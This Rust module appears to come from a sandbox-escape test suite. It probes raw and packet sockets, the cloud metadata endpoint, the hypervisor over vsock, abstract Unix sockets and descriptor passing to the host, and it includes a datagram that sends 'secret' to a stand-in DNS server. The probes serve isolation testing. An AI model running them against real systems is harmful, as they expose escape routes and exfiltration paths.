//! Tricks that try to reach another process: over the network, by a name, or over the data connection.

use std::ffi::c_int;
use std::io;
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr as Name, UnixDatagram, UnixStream};
use std::time::Duration;

use crate::Trick;
use crate::answer::Answer;
use crate::file_system::adopt;
use crate::kernel::{at, call};

/// The data connection.
const DATA: usize = 3;

pub(crate) const TRICKS: &[(&str, Trick)] = &[
    ("make_raw_socket", |_, _| {
        socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP)
    }),
    ("make_raw_socket_6", |_, _| {
        socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6)
    }),
    ("make_packet_socket", |_, _| {
        socket(libc::AF_PACKET, libc::SOCK_RAW, 0)
    }),
    ("make_crypto_socket", |_, _| {
        socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0)
    }),
    ("make_bluetooth_socket", |_, _| {
        socket(libc::AF_BLUETOOTH, libc::SOCK_RAW, 1)
    }),
    ("make_xdp_socket", |_, _| {
        socket(libc::AF_XDP, libc::SOCK_RAW, 0)
    }),
    ("make_can_socket", |_, _| {
        socket(libc::AF_CAN, libc::SOCK_RAW, 1)
    }),
    ("reach_machine_monitor", |_, _| reach_machine_monitor()),
    ("reach_metadata_service", |_, _| {
        reach(([169, 254, 169, 254], 80))
    }),
    ("reach_name_service", |_, _| ask(([192, 0, 2, 53], 53))),
    ("reach_name_service_6", |_, _| {
        ask(([0x2001, 0xdb8, 0, 0, 0, 0, 0, 1], 53))
    }),
    ("reach_host_by_loopback", |_, port| {
        reach(([127, 0, 0, 1], port.parse().unwrap_or(0)))
    }),
    ("reach_host_by_name", |token, _| reach_name(token)),
    ("send_to_host_by_name", |token, _| {
        send_to_name(&format!("{token}-datagrams"))
    }),
    ("find_interfaces", |_, _| interfaces()),
    ("turn_on_loopback", |_, _| turn_on_loopback()),
    ("listen_on_data_connection", |_, _| {
        call(libc::SYS_listen, &[DATA, 1]).into()
    }),
    ("find_who_asks", |_, _| find_who_asks()),
    ("trap_host_with_descriptors", |token, _| {
        pass_descriptor(token)
    }),
    ("hang_up", |_, _| {
        call(libc::SYS_shutdown, &[DATA, libc::SHUT_RDWR as usize]).into()
    }),
];

fn socket(family: c_int, kind: c_int, protocol: c_int) -> Answer {
    call(
        libc::SYS_socket,
        &[family as usize, kind as usize, protocol as usize],
    )
    .into()
}

fn reach(address: impl Into<SocketAddr>) -> Answer {
    TcpStream::connect_timeout(&address.into(), Duration::from_millis(300)).into()
}

/// Sends data in one datagram, as a DNS query would: this may work even if connections are blocked.
fn ask(address: impl Into<SocketAddr>) -> Answer {
    let address = address.into();
    let own = if address.is_ipv4() {
        "0.0.0.0:0"
    } else {
        "[::]:0"
    };
    UdpSocket::bind(own)
        .and_then(|socket| socket.send_to(b"secret.example", address))
        .into()
}

fn reach_name(name: &str) -> Answer {
    Name::from_abstract_name(name)
        .and_then(|name| UnixStream::connect_addr(&name))
        .into()
}

fn send_to_name(name: &str) -> Answer {
    let send =
        || UnixDatagram::unbound()?.send_to_addr(b"secret", &Name::from_abstract_name(name)?);
    send().into()
}

/// In a vsock network, the host of a virtual machine has number 2.
fn reach_machine_monitor() -> Answer {
    let connect = || -> io::Result<()> {
        let kind = (libc::SOCK_STREAM | libc::SOCK_NONBLOCK) as usize;
        let socket = adopt(call(libc::SYS_socket, &[libc::AF_VSOCK as usize, kind, 0])?);
        let mut address = [libc::AF_VSOCK as u32, 1024, 2, 0];
        call(
            libc::SYS_connect,
            &[socket.as_raw_fd() as usize, at(&mut address), 16],
        )?;
        Ok(())
    };
    connect().into()
}

/// Finds all network interfaces except loopback.
fn interfaces() -> Answer {
    let found = || -> io::Result<String> {
        let kind = libc::SOCK_RAW as usize;
        let socket = adopt(call(
            libc::SYS_socket,
            &[libc::AF_NETLINK as usize, kind, 0],
        )?);
        let mut names = String::new();
        for index in 1..16_u32 {
            // struct ifreq: a name, then the index.
            let mut request = [0_u32; 10];
            request[4] = index;
            let asked = [
                socket.as_raw_fd() as usize,
                libc::SIOCGIFNAME as usize,
                at(&mut request),
            ];
            if call(libc::SYS_ioctl, &asked).is_ok() {
                let name = request[0].to_ne_bytes();
                names += String::from_utf8_lossy(&name).trim_end_matches('\0');
            }
        }
        Ok(names.replace("lo", ""))
    };
    found().map_or_else(Answer::from, Answer::found)
}

fn turn_on_loopback() -> Answer {
    let turn_on = || -> io::Result<()> {
        let kind = libc::SOCK_DGRAM as usize;
        let socket = adopt(call(libc::SYS_socket, &[libc::AF_INET as usize, kind, 0])?);
        let mut request = [0_u16; 20];
        request[0] = u16::from_ne_bytes(*b"lo");
        request[8] = libc::IFF_UP as u16;
        let asked = [
            socket.as_raw_fd() as usize,
            libc::SIOCSIFFLAGS as usize,
            at(&mut request),
        ];
        call(libc::SYS_ioctl, &asked)?;
        Ok(())
    };
    turn_on().into()
}

/// Reads the credentials of the data connection's peer: process and user on the host.
fn find_who_asks() -> Answer {
    const NOBODY: u32 = 65_534;
    let (mut who, mut size) = ([0_u32; 3], 12_u32);
    let level = libc::SOL_SOCKET as usize;
    let asked = [
        DATA,
        level,
        libc::SO_PEERCRED as usize,
        at(&mut who),
        at(&mut size),
    ];
    match call(libc::SYS_getsockopt, &asked) {
        Ok(_) => {
            let told =
                ![0, std::process::id()].contains(&who[0]) || [who[1], who[2]] != [NOBODY; 2];
            Answer::found(if told {
                format!("{who:?}")
            } else {
                String::new()
            })
        }
        Err(error) => error.into(),
    }
}

/// Attaches a descriptor to the bytes of an answer. A careless reader would hold it open.
fn pass_descriptor(token: &str) -> Answer {
    let pass = || -> io::Result<()> {
        let name = std::ffi::CString::new(token)?;
        let memory = adopt(call(libc::SYS_memfd_create, &[name.as_ptr().addr(), 0])?);
        // The normal answer of this request, with the descriptor attached.
        let mut bytes = *b"\x05done ";
        let mut part = [at(&mut bytes), bytes.len()];
        let fd = memory.as_raw_fd() as u32 as usize;
        let kind = libc::SOL_SOCKET as usize | (libc::SCM_RIGHTS as usize) << 32;
        let mut control = [20_usize, kind, fd];
        let mut message = [0, 0, at(&mut part), 1, at(&mut control), 24, 0];
        call(libc::SYS_sendmsg, &[DATA, at(&mut message), 0])?;
        crate::kernel::exit();
    };
    match pass() {
        Ok(()) => Answer::done(),
        Err(error) => error.into(),
    }
}
